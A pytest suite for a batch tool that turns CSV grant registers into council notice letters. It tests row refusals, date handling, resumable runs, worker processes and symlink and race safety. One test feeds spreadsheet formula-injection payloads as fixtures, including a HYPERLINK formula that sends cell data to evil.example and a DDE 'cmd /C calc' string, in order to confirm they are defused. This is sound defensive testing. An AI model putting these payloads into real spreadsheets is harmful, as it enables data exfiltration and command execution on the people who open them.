"""Tests for compact_docs.rendering.batch and `compact-docs batch`: every row written or refused, and reported."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from docx import Document
from icalendar import Calendar
from pypdf import PdfReader
from testdata import BATCH, HOSTILE_LETTERS, PROFILES, ROOT

from cli import cli
from compact_docs.errors import InvalidData
from compact_docs.rendering.batch import generate_batch, run_batch
from compact_docs.rendering.renderer import render
from compact_docs.rows import read_rows

DATA = BATCH
DEFAULTS = DATA / "defaults.yaml"


def docx_text(path: Path) -> str:
    document = Document(str(path))
    parts = [p.text for p in document.paragraphs]
    parts += [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join(parts)


def pdf_text(path: Path) -> str:
    return "\n".join(page.extract_text() or "" for page in PdfReader(str(path)).pages)


def test_cli_batch_writes_every_row_with_report_and_calendar(tmp_path: Path) -> None:
    out = tmp_path / "letters"
    result = CliRunner().invoke(cli, ["batch", "notice", str(DATA / "register.csv"), "--defaults",
                                      str(DEFAULTS), "-o", str(out), "--calendar", "--workers", "1"])
    assert result.exit_code == 0, result.output
    assert "3 of 3 rows written (6 files)" in result.output
    assert "\u2501" not in result.output  # no progress bar when output is not a terminal
    report = json.loads((out / "report.json").read_text())
    assert (report["rows"], report["written"], report["refused"]) == (3, 3, 0)
    assert report["results"][1]["files"] == ["lbb-fsf-2025-004_crayford-community-larder_notice.docx",
                                             "lbb-fsf-2025-004_crayford-community-larder_notice.pdf"]
    for name in report["results"][1]["files"]:
        assert (out / name).exists()
    cal = Calendar.from_ical((out / "deadlines.ics").read_bytes())
    summaries = sorted(str(e["summary"]) for e in cal.walk("VEVENT"))
    assert len(summaries) == 6
    assert "Response deadline: Erith Men's Shed (LBB-HA-2024-002)" in summaries
    assert "2027-04-01" in json.dumps(report["results"][0]["deadlines"])


def test_mixed_good_and_bad_rows(tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = CliRunner().invoke(cli, ["batch", "notice", str(DATA / "mixed.csv"), "--defaults",
                                      str(DEFAULTS), "-o", str(out), "--format", "docx", "--workers", "1"])
    assert result.exit_code == 1, result.output
    assert "1 of 6 rows written" in result.output
    rows = list(csv.DictReader(io.StringIO((out / "report.csv").read_text(encoding="utf-8"))))
    # rows as Excel shows them: the header is row 1
    assert [r["row"] for r in rows] == ["2", "3", "4", "5", "6", "7"]
    assert [r["status"] for r in rows] == ["refused"] * 5 + ["written"]
    by_row = {r["row"]: r for r in rows}
    # Rows 2 and 5 share a reference: both refused, each naming the other, never a guess.
    for row in ("2", "5"):
        assert ("funding.reference (column D): 'LBB-GR-2024-017' is on rows 2 and 5 of this batch"
                in by_row[row]["reason"])
    assert "notice.effective (column I): is not a real date" in by_row["3"]["reason"]
    assert "NOTICE_PERIOD" in by_row["4"]["reason"] and "NOTICE_PERIOD" in by_row["4"]["findings"]
    assert "organisation.name (column A): is required but missing" in by_row["6"]["reason"]
    # refused rows whose data was read still say whose they are
    assert (by_row["3"]["organisation"], by_row["3"]["reference"]) == ("Crayford Community Larder",
                                                                        "LBB-FSF-2025-004")
    assert by_row["6"]["reference"] == "LBB-WS-2025-001"
    assert "row 3: refused" in result.output
    assert [p.name for p in out.glob("*.docx")] == ["lbb-ws-2025-003_welling-warm-space_notice.docx"]


def test_a_uk_excel_export_makes_letters_with_the_right_dates(tmp_path: Path) -> None:
    """dd/mm/yyyy dates, £ and thousands separators, as a UK Excel 'CSV UTF-8' export writes them."""
    register = tmp_path / "register.csv"
    register.write_text(
        "\ufefforganisation.name,organisation.contact.name,funding.programme,funding.reference,"
        "funding.annual_value,funding.start,funding.end,decision.new_annual_value,notice.sent,notice.effective\n"
        "Welling Youth FC,Jack Hill,Youth Activities Grant,LBB-YA-2024-011,\"£36,000.00\",01/04/2024,"
        "31/03/2027,\"25,200\",23/12/2025 09:00,30/03/2026\n"
        "Sidcup Stitchers,Ann Bell,Craft Club,LBB-CC-2024-012,\"£1,500\",01/04/2024,31/03/2027,1050,"
        "23/12/2025 09:00,31/02/2026\n", encoding="utf-8")
    defaults = tmp_path / "defaults.yaml"
    text = DEFAULTS.read_text(encoding="utf-8").replace("delivery: email", "delivery: first-class-post")
    defaults.write_text(text.replace("decided_on: 2026-11-20", "decided_on: 2025-12-01")
                        .replace("date: 2026-11-12", "date: 2025-11-12")
                        .replace("deadline: 2027-01-15", "deadline: 2026-02-13"), encoding="utf-8")
    summary = run_batch(register, "notice", tmp_path / "out", formats=("docx", "pdf"), defaults=defaults,
                        workers=1)
    first, second = summary.results
    assert first.status == "written", first.reason
    # posted Tue 23 Dec 2025, first class: given Mon 29 Dec (25, 26 Dec are bank holidays)
    text = pdf_text(tmp_path / "out" / first.files[1])
    flat = " ".join(text.split())
    assert "Monday 29 December 2025" in flat and "Sunday 29 March 2026" in flat
    assert "£36,000 a year" in flat and "£25,200 a year" in flat
    assert "Youth Activities Grant grant" not in flat
    assert second.status == "refused" and second.row == 3
    assert "notice.effective (column J): is not a real date" in second.reason
    assert "31/02/2026" in second.reason


def test_existing_files_are_already_made_or_refused_unless_forced(tmp_path: Path) -> None:
    first = list(generate_batch(DATA / "register.csv", "notice", tmp_path, formats=("docx",),
                                defaults=DEFAULTS, workers=1))
    assert all(r.status == "written" for r in first)
    again = list(generate_batch(DATA / "register.csv", "notice", tmp_path, formats=("docx",),
                                defaults=DEFAULTS, workers=1))
    assert [r.status for r in again] == ["already-made"] * 3
    assert again[0].files == first[0].files
    changed = tmp_path / "changed.csv"
    changed.write_text((DATA / "register.csv").read_text(encoding="utf-8").replace("38400", "38000"),
                       encoding="utf-8")
    other = list(generate_batch(changed, "notice", tmp_path, formats=("docx",), defaults=DEFAULTS, workers=1))
    assert [r.status for r in other] == ["refused", "already-made", "already-made"]
    assert "already exists, made from other data" in other[0].reason and "--force" in other[0].reason
    forced = list(generate_batch(changed, "notice", tmp_path, formats=("docx",),
                                 defaults=DEFAULTS, workers=1, force=True))
    assert all(r.status == "written" for r in forced)


def test_a_rerun_after_fixing_one_row_is_a_resume(tmp_path: Path) -> None:
    out = tmp_path / "out"
    bad = (DATA / "register.csv").read_text(encoding="utf-8").replace("2024-04-01,2027-03-31,7840",
                                                                      "2024-04-01,2027-03-31,78x40")
    rows = tmp_path / "register.csv"
    rows.write_text(bad, encoding="utf-8")
    args = ["batch", "notice", str(rows), "--defaults", str(DEFAULTS), "-o", str(out), "--format", "docx",
            "--workers", "1", "--calendar"]
    first = CliRunner().invoke(cli, args)
    assert first.exit_code == 1 and "2 of 3 rows written" in first.output
    rows.write_text(bad.replace("78x40", "7840"), encoding="utf-8")
    second = CliRunner().invoke(cli, args)
    assert second.exit_code == 0, second.output
    assert "1 of 3 rows written (1 files), 2 already made" in second.output
    report = json.loads((out / "report.json").read_text())
    assert [r["status"] for r in report["results"]] == ["already-made", "already-made", "written"]
    assert len(report["runs"]) == 2 and report["refused"] == 0
    runs = sorted((out / "reports").glob("run-*.json"))
    assert len(runs) == 2                                         # every run's own report is kept
    assert json.loads(runs[0].read_text())["refused"] == 1
    cal = Calendar.from_ical((out / "deadlines.ics").read_bytes())
    assert len(list(cal.walk("VEVENT"))) == 6                     # every letter in the folder


def test_batch_output_matches_the_single_letter_path(tmp_path: Path) -> None:
    """Two worker processes, DOCX and PDF: the same text as `render` makes for the same row."""
    results = list(generate_batch(DATA / "register.csv", "notice", tmp_path / "batch",
                                  defaults=DEFAULTS, workers=2))
    assert [r.row for r in results] == [2, 3, 4]
    rows = list(read_rows(DATA / "register.csv", "notice", DEFAULTS))
    for row, result in zip(rows, results, strict=True):
        single = render(row.data, out_dir=tmp_path / f"single-{row.number}", kind="notice")
        by_suffix = {p.suffix: p for p in single.files}
        batch_docx, batch_pdf = (tmp_path / "batch" / name for name in result.files)
        assert docx_text(batch_docx) == docx_text(by_suffix[".docx"])
        assert pdf_text(batch_pdf) == pdf_text(by_suffix[".pdf"])
        assert batch_pdf.read_bytes() == by_suffix[".pdf"].read_bytes()  # byte for byte, in fact
        assert batch_docx.name == by_suffix[".docx"].name


def _freeze_count(answer: Any) -> None:
    import gc

    answer.put(gc.get_freeze_count())


def test_workers_are_forked_with_the_parents_objects_frozen_and_the_parent_thawed(tmp_path: Path) -> None:
    import gc
    from multiprocessing import get_context

    from compact_docs.rendering.batch import _frozen_for_fork

    context = get_context("fork")
    answer = context.Queue()
    with _frozen_for_fork():
        child = context.Process(target=_freeze_count, args=(answer,))
        child.start()
    child.join(30)
    assert answer.get(timeout=30) > 0  # the worker's collector never walks what it inherited
    assert gc.get_freeze_count() == 0
    results = list(generate_batch(DATA / "register.csv", "notice", tmp_path, formats=("docx",),
                                  defaults=DEFAULTS, workers=2))
    assert [r.status for r in results] == ["written"] * 3 and gc.get_freeze_count() == 0

    gc.freeze()  # a caller that froze its own objects (a pre-fork server) keeps them frozen
    try:
        frozen = gc.get_freeze_count()
        with _frozen_for_fork():
            pass
        assert gc.get_freeze_count() == frozen
    finally:
        gc.unfreeze()


def test_rows_from_python_with_defaults(tmp_path: Path) -> None:
    rows = [{"organisation": {"name": "Welling Warm Space"},
             "funding": {"programme": "Warm Spaces", "reference": "LBB-WS-2025-009", "start": "2024-04-01",
                         "end": "2027-03-31"}, "decision": {"new_annual_value": 1000}}]
    summary = run_batch(rows, "notice", tmp_path, formats=("docx",), defaults=DEFAULTS, workers=1)
    assert summary.written == 1
    assert (tmp_path / "report.csv").exists()


def test_unreadable_input_exits_2_and_writes_nothing(tmp_path: Path) -> None:
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"organisation": {"name": "A"}}\n{not json\n')
    out = tmp_path / "out"
    result = CliRunner().invoke(cli, ["batch", "notice", str(bad), "-o", str(out)])
    assert result.exit_code == 2
    assert "line 2 is not valid JSON" in result.output
    assert not out.exists() or not any(out.glob("*.docx"))
    with pytest.raises(InvalidData):
        run_batch(tmp_path / "missing.csv", "notice", out)


def test_reports_are_written_when_interrupted(tmp_path: Path) -> None:
    seen: list[int] = []

    def stop_after_first(result: object) -> None:
        seen.append(1)
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        run_batch(DATA / "register.csv", "notice", tmp_path, formats=("docx",), defaults=DEFAULTS,
                  workers=1, on_result=stop_after_first)
    report = json.loads((tmp_path / "report.json").read_text())
    assert report["rows"] == 1


def test_rows_that_are_not_data_are_refused_not_fatal(tmp_path: Path) -> None:
    rows = tmp_path / "rows.yaml"
    rows.write_text("- organisation: {name: A}\n-\n- 5\n")
    result = CliRunner().invoke(cli, ["batch", "notice", str(rows), "--defaults", str(DEFAULTS), "-o",
                                      str(tmp_path / "out"), "--format", "docx", "--workers", "1"])
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    report = json.loads((tmp_path / "out" / "report.json").read_text())
    assert report["rows"] == 3
    assert [r["status"] for r in report["results"]] == ["refused", "refused", "refused"]
    assert "expected letter data (a mapping of fields), not NoneType" in report["results"][1]["reason"]


def test_a_far_future_date_refuses_only_its_row(tmp_path: Path) -> None:
    text = (DATA / "register.csv").read_text(encoding="utf-8").splitlines()
    header = text[0] + ",notice.sent"
    body = [line + "," for line in text[1:]]
    body[2] = body[2][:-1] + ",9999-12-31T10:00"
    path = tmp_path / "far.csv"
    path.write_text("\n".join([header, *body]) + "\n", encoding="utf-8")
    results = list(generate_batch(path, "notice", tmp_path / "out", formats=("docx",), defaults=DEFAULTS,
                                  workers=1))
    assert [r.status for r in results] == ["written", "written", "refused"]
    assert "notice.sent (column M): must be a year between 1900 and 2200" in results[2].reason


def test_a_csv_row_with_extra_cells_is_refused_and_the_rest_written(tmp_path: Path) -> None:
    text = (DATA / "register.csv").read_text(encoding="utf-8")
    path = tmp_path / "extra.csv"
    path.write_text(text + "Extra Org,1 High St, Extra,Jo,jo@x.example,true,P,R-1,1000,2024-04-01,2027-03-31,"
                    "800,\n", encoding="utf-8")
    results = list(generate_batch(path, "notice", tmp_path / "out", formats=("docx",), defaults=DEFAULTS,
                                  workers=1))
    assert [r.status for r in results] == ["written", "written", "written", "refused"]
    assert "13 cells but 12 column headers" in results[3].reason


@pytest.mark.parametrize("workers", [1, 2])
def test_each_row_is_checked_and_worded_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                            workers: int) -> None:
    from compact_docs.letters import context as wording

    worded = tmp_path / "worded.txt"  # appended to by whichever process words a letter
    original = wording.letter_context

    def counting(*args: Any) -> Any:
        with worded.open("a", encoding="utf-8") as log:
            log.write(args[0].organisation.name + "\n")
        return original(*args)

    monkeypatch.setattr("compact_docs.rendering.renderer.letter_context", counting)
    results = list(generate_batch(DATA / "register.csv", "notice", tmp_path / "out", defaults=DEFAULTS,
                                  formats=("docx",), workers=workers))
    assert [r.status for r in results] == ["written"] * 3
    assert len(worded.read_text(encoding="utf-8").splitlines()) == 3  # once per row, in any process


def test_a_loaded_profile_is_handed_over_by_name() -> None:
    import pickle

    from compact_docs.rules.profile import load_profile, parse_profile

    bexley = load_profile("bexley")
    assert len(pickle.dumps(bexley)) < 200 and pickle.loads(pickle.dumps(bexley)) is bexley
    parsed = parse_profile((PROFILES / "bexley.toml").read_text(encoding="utf-8"), "mine")
    assert pickle.loads(pickle.dumps(parsed)) == parsed  # not loaded by name: its rules travel
def test_month_first_dates_with_en_us(tmp_path: Path) -> None:
    register = tmp_path / "register.csv"
    register.write_text(
        "organisation.name,organisation.contact.name,funding.programme,funding.reference,funding.annual_value,"
        "funding.start,funding.end,decision.new_annual_value\n"
        "Welling Youth FC,Jack Hill,Youth Activities,LBB-YA-2024-011,36000,04/01/2024,03/31/2027,25200\n",
        encoding="utf-8")
    args = ["batch", "notice", str(register), "--defaults", str(DEFAULTS), "-o", str(tmp_path / "out"),
            "--format", "docx", "--workers", "1"]
    assert CliRunner().invoke(cli, args).exit_code == 1           # 31st month: refused, day first
    result = CliRunner().invoke(cli, [*args, "--dates", "en-US"])
    assert result.exit_code == 0, result.output
    assert "1 April 2024 to 31 March 2027" in docx_text(next((tmp_path / "out").glob("*.docx")))


HOSTILE = HOSTILE_LETTERS


def test_report_cells_never_start_a_spreadsheet_formula(tmp_path: Path) -> None:
    summary = run_batch(HOSTILE / "formula-register.csv", "notice", tmp_path, formats=("docx",),
                        defaults=DEFAULTS, workers=1)
    assert summary.written == 3
    rows = list(csv.DictReader(io.StringIO((tmp_path / "report.csv").read_text(encoding="utf-8"))))
    assert [r["organisation"] for r in rows] == [
        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'@SUM(1+1)*cmd|' /C calc'!A0",
        "Plain Organisation"]
    assert [r["reference"] for r in rows] == ["'+44-GR-1", "'-2+3", "'=1+2"]
    for row in rows:
        for cell in row.values():
            assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell
    # report.json is not a spreadsheet: it keeps the values as they are.
    report = json.loads((tmp_path / "report.json").read_text(encoding="utf-8"))
    assert report["results"][1]["reference"] == "-2+3"


@pytest.mark.parametrize(("cell", "safe"), [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("  =1", "'  =1"), ("\u00a0@x", "'\u00a0@x"), ("\n+1", "'\n+1"),
    ("Plain", "Plain"), ("a=b", "a=b"), ("", ""),
])
def test_spreadsheet_text(cell: str, safe: str) -> None:
    from compact_docs.rendering.batch_report import spreadsheet_text

    assert spreadsheet_text(cell) == safe


def test_reports_never_follow_a_symlink_out_of_the_folder(tmp_path: Path) -> None:
    out, outside = tmp_path / "out", tmp_path / "outside"
    out.mkdir()
    outside.mkdir()
    for name in ("report.csv", "report.json", "deadlines.ics"):
        (outside / name).write_text("precious\n", encoding="utf-8")
        (out / name).symlink_to(outside / name)
    summary = run_batch(DATA / "register.csv", "notice", out, formats=("docx",), defaults=DEFAULTS,
                        workers=1, calendar=True)
    assert summary.written == 3
    for name in ("report.csv", "report.json", "deadlines.ics"):
        assert (outside / name).read_text(encoding="utf-8") == "precious\n"
        assert not (out / name).is_symlink() and (out / name).stat().st_size > 100


def test_a_letter_name_that_is_a_symlink_refuses_that_row_only(tmp_path: Path) -> None:
    out, outside = tmp_path / "out", tmp_path / "outside.docx"
    out.mkdir()
    outside.write_bytes(b"precious")
    (out / "lbb-fsf-2025-004_crayford-community-larder_notice.docx").symlink_to(outside)
    result = CliRunner().invoke(cli, ["batch", "notice", str(DATA / "register.csv"), "--defaults",
                                      str(DEFAULTS), "-o", str(out), "--format", "docx", "--workers", "1"])
    assert result.exit_code == 1, result.output
    assert "2 of 3 rows written" in result.output
    report = json.loads((out / "report.json").read_text(encoding="utf-8"))
    assert [r["status"] for r in report["results"]] == ["written", "refused", "written"]
    assert "is a symbolic link; refusing to write through it" in report["results"][1]["reason"]
    assert outside.read_bytes() == b"precious"
    forced = list(generate_batch(DATA / "register.csv", "notice", out, formats=("docx",), defaults=DEFAULTS,
                                 workers=1, force=True))
    assert [r.status for r in forced] == ["written", "refused", "written"]
    assert outside.read_bytes() == b"precious"


def test_a_letter_another_batch_wrote_meanwhile_is_never_replaced(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The race of two batches into one folder: the file appears after this batch checked for it."""
    from compact_docs.rendering import batch
    from compact_docs.rendering.output import read_manifest

    real = batch._lay_out_and_write

    def other_batch_first(renderer: Any, settings: Any, job: Any) -> Any:
        if job.number == 3:  # the second data row (rows are numbered as Excel numbers them)
            (Path(settings.out_dir) / f"{job.stem}.docx").write_bytes(b"the other batch's letter")
        return real(renderer, settings, job)

    monkeypatch.setattr(batch, "_lay_out_and_write", other_batch_first)
    results = list(generate_batch(DATA / "register.csv", "notice", tmp_path, formats=("docx",),
                                  defaults=DEFAULTS, workers=1))
    assert [r.status for r in results] == ["written", "refused", "written"]
    assert "lbb-fsf-2025-004_crayford-community-larder_notice.docx already exists" in results[1].reason
    taken = tmp_path / "lbb-fsf-2025-004_crayford-community-larder_notice.docx"
    assert taken.read_bytes() == b"the other batch's letter"
    recorded = [f["name"] for record in read_manifest(tmp_path) for f in record["files"]]
    assert taken.name not in recorded and len(recorded) == 2
    assert not list(tmp_path.glob(".*.part"))


def _batch_into(out: Path, rows: list[dict[str, Any]], start: Any, answers: Any) -> None:
    start.wait(30)
    results = generate_batch(rows, "notice", out, formats=("docx",), defaults=DEFAULTS, workers=1)
    answers.put([(r.row, r.status, r.reason) for r in results])


def test_two_batches_into_one_folder_write_each_letter_once(tmp_path: Path) -> None:
    from multiprocessing import get_context

    from compact_docs.rendering.output import read_manifest

    rows = [{"organisation": {"name": f"Group {n}"},
             "funding": {"programme": "Warm Spaces", "reference": f"LBB-WS-{n:03}", "start": "2024-04-01",
                         "end": "2027-03-31"}, "decision": {"new_annual_value": 1000}} for n in range(20)]
    context = get_context("fork")
    start, answers = context.Event(), context.Queue()
    batches = [context.Process(target=_batch_into, args=(tmp_path, rows, start, answers)) for _ in range(2)]
    for process in batches:
        process.start()
    start.set()
    outcomes = [answers.get(timeout=120) for _ in batches]
    for process in batches:
        process.join(30)
    written = [row for outcome in outcomes for row, status, _ in outcome if status == "written"]
    assert sorted(written) == list(range(1, 21))  # each row written by exactly one batch
    refused = [reason for outcome in outcomes for _, status, reason in outcome if status == "refused"]
    assert all("already exists" in reason for reason in refused)
    names = [f["name"] for record in read_manifest(tmp_path) for f in record["files"]]
    assert len(names) == len(set(names)) == 20


@pytest.mark.parametrize(("umask", "mode"), [(0o002, 0o664), (0o022, 0o644), (0o077, 0o600)])
def test_letters_manifest_reports_and_calendar_follow_the_umask(umask: int, mode: int, tmp_path: Path) -> None:
    import os
    import stat

    old = os.umask(umask)
    try:
        run_batch(DATA / "register.csv", "notice", tmp_path, formats=("docx",), defaults=DEFAULTS,
                  workers=1, calendar=True)
    finally:
        os.umask(old)
    made = sorted(p for p in tmp_path.rglob("*") if p.is_file())
    assert {p.name for p in made} >= {"manifest.jsonl", "report.csv", "report.json", "deadlines.ics"}
    assert len(made) == 9  # and three letters, and this run's report.csv and .json under reports/
    assert {p.name: oct(stat.S_IMODE(p.stat().st_mode)) for p in made} == {p.name: oct(mode) for p in made}


def test_workers_die_with_a_sigkilled_batch(tmp_path: Path) -> None:
    import os
    import signal
    import subprocess
    import sys
    import time

    import psutil

    lines = (DATA / "register.csv").read_text(encoding="utf-8").splitlines()
    rows = [lines[0]] + [lines[1].replace("LBB-GR-2024-017", f"LBB-GR-{n:04}") for n in range(80)]
    register = tmp_path / "register.csv"
    register.write_text("\n".join(rows) + "\n", encoding="utf-8")
    root = ROOT
    batch = subprocess.Popen([sys.executable, "-m", "cli", "batch", "notice", str(register),
                              "--defaults", str(DEFAULTS), "-o", str(tmp_path / "out"), "--format", "pdf",
                              "--workers", "2"], cwd=root, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    workers: list[psutil.Process] = []
    try:
        deadline = time.monotonic() + 60
        while len(workers) < 2 and time.monotonic() < deadline:
            workers = psutil.Process(batch.pid).children()
            time.sleep(0.1)
        assert len(workers) == 2, "the batch never started its workers"
        time.sleep(1)  # let them get to work
        os.kill(batch.pid, signal.SIGKILL)
        batch.wait(10)
        _, alive = psutil.wait_procs(workers, timeout=10)
        assert alive == [], "workers outlived the batch"
    finally:
        batch.kill()
        for worker in workers:
            if worker.is_running():
                worker.kill()
